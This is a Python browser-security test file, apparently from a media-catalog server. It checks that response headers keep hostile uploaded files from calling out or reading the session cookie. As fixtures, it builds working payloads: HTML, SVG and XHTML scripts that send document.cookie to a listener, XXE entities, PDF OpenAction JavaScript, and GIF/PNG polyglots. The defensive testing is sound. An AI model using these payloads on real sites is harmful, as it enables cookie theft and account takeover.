"""Hostile files in a real browser: what the server hands out asks nobody for anything, and reads no cookie.

Each file tries all that its format can to reach a listener on another port and to take the cookie that lies on the
server's origin. It is opened at both of its addresses, by itself and embedded in a page of that origin: as it is
served, and once more as if `Content-Disposition` had got lost, so that the browser shows it and the other headers have
to hold. A control shows that the same files do reach the listener, cookie and all, where none of the headers is there.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Literal

import httpx
import pytest

from framedex.core.clock import now_us
from framedex.core.ids import FolderId, ItemId, new_id
from framedex.core.media_types import ItemType, MediaFacts
from framedex.core.ports.catalog import Entity, Op
from framedex.core.ports.catalog_items import NewItem
from tests.builders import media_files
from tests.builders.living import Person, Workspace, serving
from tests.conftest import require_tool

CHROMIUM = require_tool("chromium")

from playwright.sync_api import Browser, BrowserContext, Error, Page, Route, sync_playwright  # noqa: E402  # after the tool

pytestmark = [pytest.mark.protocol, pytest.mark.slow]

COOKIE = "taken-cookie"
_GUARDS = {
    "x-content-type-options", "content-security-policy", "cross-origin-resource-policy", "content-disposition",
    "referrer-policy",
}  # fmt: skip


@dataclass
class Listener:
    """A web server that hostile files want to reach; it keeps what was asked of it."""

    url: str
    asked: list[str] = field(default_factory=list)
    connections: int = 0
    was_called: threading.Event = field(default_factory=threading.Event)


@contextmanager
def listening() -> Iterator[Listener]:
    class Handler(BaseHTTPRequestHandler):
        def setup(self) -> None:
            found.connections += 1
            super().setup()

        def do_GET(self) -> None:
            found.asked.append(self.path)
            found.was_called.set()
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815  # the names that the library wants

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002  # as the library calls it
            """The tests look at `asked`."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        found = Listener(f"http://127.0.0.1:{server.server_port}")
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
        thread.start()
        try:
            yield found
        finally:
            server.shutdown()
            thread.join()


def _script(url: str) -> str:
    return (
        f"try{{new Image().src='{url}/script?'+encodeURIComponent(document.cookie)}}"
        f"catch(e){{new Image().src='{url}/denied'}}fetch('{url}/fetch');"
        f"navigator.sendBeacon('{url}/beacon');setTimeout(function(){{location='{url}/gone'}},500)"
    )


def _html(url: str) -> bytes:
    return (
        f'<!doctype html><html><head><meta http-equiv="refresh" content="0;url={url}/refresh">'
        f'<link rel="stylesheet" href="{url}/css"><link rel="preload" as="image" href="{url}/preload">'
        f'<link rel="dns-prefetch" href="{url}"><link rel="prefetch" href="{url}/prefetch"><base href="{url}/">'
        f'<style>@import "{url}/import";@font-face{{font-family:x;src:url({url}/font)}}body{{font-family:x;'
        f"background:url({url}/background)}}</style></head><body onload=\"new Image().src='{url}/onload'\">text"
        f'<img src="{url}/img" onerror="new Image().src=\'{url}/onerror\'"><iframe src="{url}/iframe"></iframe>'
        f'<object data="{url}/object"></object><embed src="{url}/embed"><video src="{url}/video"></video>'
        f'<form id="f" action="{url}/form" method="post"></form><script>{_script(url)}</script>'
        f"<script>f.submit()</script></body></html>"
    ).encode()


def _svg(url: str) -> bytes:
    return (
        f'<?xml version="1.0"?><?xml-stylesheet href="{url}/sheet"?>'
        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{url}/entity">]>'
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" '
        f'onload="new Image().src=\'{url}/onload\'"><image href="{url}/image" width="9" height="9"/>'
        f'<use xlink:href="{url}/use#a"/><foreignObject>'
        f'<iframe xmlns="http://www.w3.org/1999/xhtml" src="{url}/frame"/>'
        f"</foreignObject><style>@import url({url}/import);</style><script>{_script(url)}</script></svg>"
    ).encode()


def _xhtml(url: str) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "{url}/entity">]>'
        f'<html xmlns="http://www.w3.org/1999/xhtml"><head><link rel="stylesheet" href="{url}/css"/></head><body>'
        f'<img src="{url}/img"/><iframe src="{url}/iframe"/><script>{_script(url)}</script></body></html>'
    ).encode()


def _xml(url: str) -> bytes:
    return (
        f'<?xml version="1.0"?><?xml-stylesheet type="text/css" href="{url}/css"?>'
        f'<!DOCTYPE r [<!ENTITY x SYSTEM "{url}/entity">]><r><h:script xmlns:h="http://www.w3.org/1999/xhtml">'
        f'{_script(url)}</h:script><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="{url}/img"/></r>'
    ).encode()


def _pdf(url: str) -> bytes:
    script = f"app.launchURL('{url}/launch', true); this.submitForm('{url}/submit'); this.getURL('{url}/get')"
    return media_files.pdf(1).replace(
        b"/Type/Catalog",
        f"/Type/Catalog/OpenAction<</S/JavaScript/JS({script.replace('(', chr(92) + '(').replace(')', chr(92) + ')')})"
        f"/Next<</S/URI/URI({url}/uri)>>>>".encode(),
    )


def _polyglot_gif(url: str) -> bytes:
    """An image to one reader, a script to another, a page to a third."""
    script = f"=1;{_script(url)}//".encode()
    return (
        b"GIF89a/*" + media_files.gif(1)[8:] + b"*/" + script + b"<html><script>" + _script(url).encode() + b"</script>"
    )


def _polyglot_png(url: str) -> bytes:
    return media_files.png() + _html(url)


@dataclass(frozen=True)
class Hostile:
    """A file, and what its registration claims that it is."""

    make: object
    kind: ItemType
    mime_type: str
    is_active: bool = True


FILES = {
    "page.html": Hostile(_html, ItemType.PLAIN_TEXT, "text/html"),
    "drawing.svg": Hostile(_svg, ItemType.IMAGE, "image/svg+xml"),
    "page.xhtml": Hostile(_xhtml, ItemType.PLAIN_TEXT, "application/xhtml+xml"),
    "data.xml": Hostile(_xml, ItemType.PLAIN_TEXT, "application/xml"),
    "paper.pdf": Hostile(_pdf, ItemType.PDF, "application/pdf", is_active=False),
    "polyglot.gif": Hostile(_polyglot_gif, ItemType.IMAGE, "image/gif", is_active=False),
    "polyglot.png": Hostile(_polyglot_png, ItemType.IMAGE, "image/png", is_active=False),
    "page.pdf": Hostile(_html, ItemType.PDF, "application/pdf", is_active=False),
    "nothing.bin": Hostile(_html, ItemType.PLAIN_TEXT, "", is_active=False),
}


@dataclass(frozen=True)
class Den:
    """A server with the hostile files, and their addresses by name."""

    url: str
    owner: Person
    listener: Listener
    addresses: dict[str, list[str]]


@pytest.fixture(scope="module")
def den(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Den]:
    top = tmp_path_factory.mktemp("hostile")
    media = (top / "media").resolve()
    media.mkdir()
    workspace = Workspace(top / "data")
    owner = workspace.person("owner@example.org")
    integration = workspace.integration(media)
    folder = workspace.folder(owner, "f")
    with listening() as listener:
        items = {}
        for name, hostile in FILES.items():
            assert callable(hostile.make)
            (media / name).write_bytes(hostile.make(listener.url))
            items[name] = _add(workspace, owner, folder, media / name, hostile, integration)
        with serving(top / "data") as url:
            yield Den(url, owner, listener, {name: _addresses(url, owner, item) for name, item in items.items()})
    workspace.close()


def _add(
    workspace: Workspace, owner: Person, folder: FolderId, path: Path, hostile: Hostile, integration: str
) -> ItemId:
    item_id = ItemId(new_id())
    facts = MediaFacts(mime_type=hostile.mime_type or None)
    new = NewItem(
        item_id, folder, hostile.kind, path.name, owner.id, facts, url=path.as_uri(), integration_id=integration
    )
    with workspace.catalog.write() as unit:
        unit.items.add_many([new], user_id=owner.id, now_us=now_us())
        unit.log(Entity.ITEM, Op.CREATE, [item_id])
    return item_id


def _addresses(url: str, owner: Person, item: ItemId) -> list[str]:
    """The own API's, and the signed one that the SDK is given."""
    answer = httpx.get(f"{url}/v2/public/storage/items/{item}", params={"signUrl": "true"}, headers=owner.headers)
    assert answer.status_code == 200, answer.text
    return [f"{url}/api/v1/items/{item}/content", str(answer.json()["signedUrl"])]


# Chromium as root needs the first. The last lets pages ask loopback addresses: else it, and not our headers, would stop
# what the tests look for.
_FLAGS = ["--no-sandbox", "--disable-dev-shm-usage", "--disable-features=LocalNetworkAccessChecks"]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        found = playwright.chromium.launch(executable_path=CHROMIUM, args=_FLAGS)
        yield found
        found.close()


@contextmanager
def visiting(browser: Browser, den: Den, without: set[str]) -> Iterator[BrowserContext]:
    """A browser with the server's cookie, to which answers of hostile addresses come without some of their headers."""
    context = browser.new_context(accept_downloads=True)
    context.add_cookies([{"name": "session", "value": COOKIE, "url": den.url}])

    def answer(route: Route) -> None:
        # The credential goes with the request to the server alone, as a browser sends a cookie.
        response = route.fetch(headers={**route.request.headers, **den.owner.headers})
        kept = {name: value for name, value in response.headers.items() if name not in without}
        route.fulfill(status=response.status, headers=kept, body=response.body())

    for addresses in den.addresses.values():
        for address in addresses:
            context.route(address, answer)
    try:
        yield context
    finally:
        context.close()


def _open(page: Page, address: str, *, until: Literal["load", "commit"] = "load") -> None:
    try:
        page.goto(address, wait_until=until, timeout=10_000)
    except Error as error:
        if not any(end in error.message for end in ("Download is starting", "ERR_ABORTED", "interrupted by another")):
            raise


def _embed(page: Page, den: Den, addresses: Sequence[str]) -> None:
    """In a page of the server's origin, in every way that a page can embed something."""
    body = "".join(
        f'<iframe src="{address}"></iframe><object data="{address}"></object><img src="{address}">'
        f'<script src="{address}"></script><link rel="stylesheet" href="{address}"><video src="{address}"></video>'
        for address in addresses
    )
    page.route(
        f"{den.url}/harness", lambda route: route.fulfill(content_type="text/html", body=f"<!doctype html>{body}")
    )
    _open(page, f"{den.url}/harness")


def _settle(context: BrowserContext) -> None:
    """Until a request that is made after everything else has arrived: those before it would have, too."""
    with listening() as sentinel:
        page = context.new_page()
        _open(page, sentinel.url)
        assert sentinel.was_called.wait(10)
        page.close()


def _cookies_seen(page: Page) -> str:
    """What scripts of the document (and of frames in it) could read."""
    try:
        return str(page.evaluate("document.cookie"))
    except Error:
        return ""  # A sandboxed document has no cookies: asking for them throws.


def _visit(browser: Browser, den: Den, name: str, without: set[str]) -> None:
    """Opens and embeds a file, and waits until whatever it asks for would have been asked."""
    with visiting(browser, den, without) as context:
        for address in den.addresses[name]:
            page = context.new_page()
            _open(page, address)
            if FILES[name].is_active:  # In the frame of Chromium's viewer of PDFs stands a page of Chromium's own.
                assert COOKIE not in _cookies_seen(page)
            page.close()
        page = context.new_page()
        _embed(page, den, den.addresses[name])
        for frame in page.frames[1:]:
            assert not frame.url.startswith(den.listener.url)
        page.close()
        _settle(context)


@pytest.mark.parametrize("name", sorted(FILES))
def test_hostile_file__as_it_is_served_nobody_is_even_connected_to(browser: Browser, den: Den, name: str) -> None:
    before = den.listener.connections
    _visit(browser, den, name, set())
    assert den.listener.connections == before


@pytest.mark.parametrize("name", sorted(name for name, hostile in FILES.items() if hostile.is_active))
def test_hostile_file__shown_in_spite_of_its_disposition_it_asks_nobody(browser: Browser, den: Den, name: str) -> None:
    """Requests are what counts here: for a frame that it will not load Chromium opens a connection in advance, and
    sends nothing on it. That is why nothing of this is shown in the first place.
    """
    den.listener.asked.clear()
    _visit(browser, den, name, {"content-disposition"})
    assert den.listener.asked == []


@pytest.mark.parametrize("name", sorted(name for name, hostile in FILES.items() if hostile.is_active))
def test_control__without_the_headers_the_file_takes_the_cookie(browser: Browser, den: Den, name: str) -> None:
    """What is looked for above is really there."""
    for address in den.addresses[name]:
        den.listener.asked.clear()
        with visiting(browser, den, _GUARDS) as context:
            page = context.new_page()
            _open(page, address, until="commit")
            for _ in range(400):
                if any(COOKIE in asked for asked in den.listener.asked):
                    break
                page.wait_for_timeout(25)  # While it waits, the browser's requests are let through.
        assert any(COOKIE in asked for asked in den.listener.asked), den.listener.asked
